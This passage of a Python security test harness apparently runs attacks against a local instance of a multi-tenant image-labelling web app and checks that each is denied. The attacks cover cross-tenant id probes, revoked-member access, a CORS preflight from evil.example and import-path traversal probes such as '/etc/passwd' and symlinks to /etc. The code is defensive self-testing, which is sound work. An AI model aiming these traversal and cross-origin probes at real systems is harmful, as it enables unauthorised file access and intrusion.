    variants = ({"Authorization": f"Token {world.token('a_viewer')}"}, {},
                {"Origin": "https://evil.example", "Access-Control-Request-Method": "DELETE"})
    for path in paths:
        for headers in variants:
            world.api.call("OPTIONS", path, None, attack, headers=headers)
    attack.notes.append(f"{len(paths)} routes")
    return [attack]


# ------------------------------------------------------------------------------------------------ 8. oracles


def same_answer(world, attack, what, method, path_of, theirs, missing, body=None):
    """The answers for another tenant's id and for an id that does not exist, with the id itself masked."""
    answers = []
    for probed in (theirs, missing):
        response = world.api.call(method, path_of(probed), world.token("a_owner"), attack,
                                  json=body(probed) if body else None)
        answers.append((response.status_code, response.text.replace(str(probed), "<id>")))
    attack.expect(answers[0] == answers[1], f"{what}: theirs {answers[0]} != missing {answers[1]}")


def attack_oracles(world):
    attack = Attack("8", "tenant A's owner names B's dataset, sample, LF, training set, job, user vs missing ones")
    d, missing = f"/api/datasets/{world.A}", 987_654_321
    probes = [
        ("dataset", "GET", lambda i: f"/api/datasets/{i}/", world.B, missing, None),
        ("dataset samples", "GET", lambda i: f"/api/datasets/{i}/samples/", world.B, missing, None),
        ("dataset patch", "PATCH", lambda i: f"/api/datasets/{i}/", world.B, missing, lambda i: {"description": "x"}),
        ("sample", "GET", lambda i: f"{d}/samples/{i}/", world.samples[world.B][0], missing, None),
        ("LF", "GET", lambda i: f"{d}/lfs/{i}/", world.lfs["B"], missing, None),
        ("LF in a filter", "GET", lambda i: f"{d}/samples/?lf_vote={i}:PRESENT", world.lfs["B"], missing, None),
        ("training set export", "POST", lambda i: f"{d}/exports/", world.training_set_b, missing,
         lambda i: {"kind": "training_labels", "training_set": i}),
        ("training set model", "POST", lambda i: f"{d}/models/", world.training_set_b, missing,
         lambda i: {"training_set": i, "label_source": "training_set"}),
        ("job", "GET", lambda i: f"/api/jobs/{i}/", world.jobs["B"], str(uuid.uuid4()), None),
        ("user in a filter", "GET", lambda i: f"{d}/annotations/history/?user={i}", "b_owner", "nobody_xyz", None),
    ]
    for what, method, path_of, theirs, absent, body in probes:
        if not attack.expect(theirs is not None, f"{what}: setup made nothing to probe"):
            continue
        same_answer(world, attack, what, method, path_of, theirs, absent, body)
    attack.notes.append(f"{len(probes)} pairs compared (status and body, the id masked)")
    return [attack]


# ------------------------------------------------------------------------------------------------ 9. membership


def attack_membership(world):
    attack = Attack("9", "a removed editor reads the export job they created, its report, events, download, list")
    api, token = world.api, world.token("a_leaver")
    job = api.ok("POST", f"/api/datasets/{world.A}/exports/", token, json={"kind": "dataset"})
    job = api.job(token, job["id"])
    export = job["result"]["export"]
    members = api.ok("GET", f"/api/datasets/{world.A}/members/?limit=500", world.token("a_owner"))["results"]
    membership = next(m for m in members if m.get("username", m.get("user")) == "a_leaver")
    api.ok("DELETE", f"/api/datasets/{world.A}/members/{membership['id']}/", world.token("a_owner"))
    for path in (f"/api/jobs/{job['id']}/", f"/api/jobs/{job['id']}/report/", f"/api/jobs/{job['id']}/events/",
                 f"/api/datasets/{world.A}/exports/{export}/download/", f"/api/datasets/{world.A}/exports/{export}/"):
        response = api.call("GET", path, token, attack)
        attack.expect(response.status_code == 404, f"GET {path}: {response.status_code}")
    listed = api.call("GET", f"/api/jobs/?dataset={world.A}", token, attack).json()
    attack.expect(listed.get("count") == 0, f"the job list still shows {listed.get('count')} jobs of the dataset")
    attack.statuses.subtract({200: 1})  # the list may answer, empty
    attack.statuses = +attack.statuses
    attack.statuses["200 (empty list)"] += 1
    return [attack]


# ------------------------------------------------------------------------------------------------ 10. import sources


def attack_import_sources(world):
    attack = Attack("10", "editor imports ../outside, /etc, links out, B's grant, a missing path inside A's grant")
    token, d = world.token("a_editor"), f"/api/datasets/{world.A}/imports/"
    probes = ["a-granted/missing", "../outside", "outside", "/etc", "/etc/passwd", "a-granted/../outside",
              "a-granted/../../../etc", "a-granted/link-out", "a-granted/link-out/img.png", "a-granted/link-b",
              "a-granted/link-etc/passwd", "b-granted", "b-granted/img.png", ".", "~", "a-granted/missing/x.csv"]
    answers = {}
    for path in probes:
        response = world.api.call("POST", d, token, attack, data={"path": path})
        answers[path] = (response.status_code, response.text.replace(path, "<path>") if len(path) > 2 else response.text)
    reference = answers[probes[0]]
    differ = [path for path, answer in answers.items() if answer != reference]
    attack.expect(reference[0] == 400, f"a missing path inside the grant answered {reference[0]}")
    attack.expect(not differ, f"answers differ from the missing path's for {differ[:4]}: "
                              f"{answers[differ[0]] if differ else ''}")
    control = world.api.call("POST", d, token, data={"path": "a-granted/batch"})
    attack.expect(control.status_code == 202, f"the granted directory itself answered {control.status_code}")
    if control.status_code == 202:
        world.api.job(token, control.json()["id"])
    attack.notes.append(f"{len(probes)} paths, one body: {reference[1][:100]}")
    return [attack]


# ------------------------------------------------------------------------------------------------ running

ATTACKS = {1: attack_patterns, 3: attack_tokens, 4: attack_csv, 6: attack_bodies,
           7: attack_options, 8: attack_oracles, 9: attack_membership, 10: attack_import_sources}


def flush_login_counters(env):
    """Throttle counters of earlier runs (the cache may be shared with other work: only their keys go)."""
    import redis

    from_env = env.get("CACHE_URL") or env.get("CELERY_BROKER_URL")
    if from_env and from_env.startswith("redis"):
        client = redis.Redis.from_url(from_env)
        for key in client.scan_iter(match="*throttle_login*"):
            client.delete(key)


def run(world, server, only, log_dir):
    # Logins happen in attack 3: it runs before the throttle attack, which locks this address out for a minute.
    order = [n for n in (1, 3, 4, 5, 6, 7, 8, 9, 10, 2) if not only or n in only]
    print(f"\n{'#':<3} {'sent':<70} {'statuses':<34} {'max s':>7} {'p50 s':>7}  {'verdict':<22} load")
    results = []
    for number in order:
        if number == 2:
            attacks = attack_login(world, server)
        elif number == 5:
            attacks = attack_identifiers(world, log_dir)
        else:
            attacks = ATTACKS[number](world)
        for attack in attacks:
            print(attack.line(), flush=True)
            for line in [*attack.notes, *attack.failures]:
                print(f"      {line}")
        results += attacks
    return results


def main():
    args = arguments()
    only = {int(n) for n in args.only.split(",") if n.strip()}
    if not os.environ.get("CELERY_BROKER_URL", "").startswith("redis"):
        raise SystemExit("set CELERY_BROKER_URL to a Redis (e.g. redis://127.0.0.1:6379/3): the attacks need a worker")
    args.out.mkdir(parents=True, exist_ok=True)
    password = f"pw-{uuid.uuid4().hex}"
    wall = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="imagestudio-attacks-") as scratch, \
            open(args.out / "server.log", "w") as server_log, open(args.out / "worker.log", "w") as worker_log:
        env = attack_environment(Path(scratch))
        flush_login_counters(env)
        seeded = seed(env, password)
        port = _common.free_port()
        server, command = _common.start_server(env, port, threads=4, log=server_log, workers=2)
        worker = _common.start_celery_worker(env, worker_log)
        print(f"== attacks of issue 13 against a live server\nserver  gunicorn {command}\nworker  celery, 1 process "
              f"on {env['CELERY_BROKER_URL']}\ndatabase {urlsplit(env['DATABASE_URL']).path[1:]}\n"
              f"code    {_common.code_version()}\nbudgets pattern scan {SCAN_BUDGET_SECONDS:g} s (+{SLACK:g} s a "
              f"request or job), backtracking regex {REGEX_BUDGET_SECONDS:g} s (+{SLACK:g}), other tenant's export "
              f"{OTHER_TENANT_EXPORT_BUDGET:g} s\nlogs    {args.out}/server.log, worker.log")
        _common.print_load("load avg at the start")
        try:
            api = Api(f"http://127.0.0.1:{port}")
            _common.wait_ready(api.client, server)
            world = World(api, seeded, password)
            started = time.monotonic()
            populate(world)
            print(f"setup   3 datasets, 9 users, 18 images, 2 LFs, a training set in B over HTTP "
                  f"({time.monotonic() - started:.0f} s)")
            results = run(world, server, only, args.out)
        finally:
            _common.stop_server(server)
            _common.stop_process_group(worker)
    failed = [attack.key for attack in results if attack.verdict() == "FAILED"]
    print(f"\nattacks {len(results)}, failed {len(failed)}{': ' + ', '.join(failed) if failed else ''}; "
          f"wall {time.monotonic() - wall:.0f} s")
    _common.print_load()
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
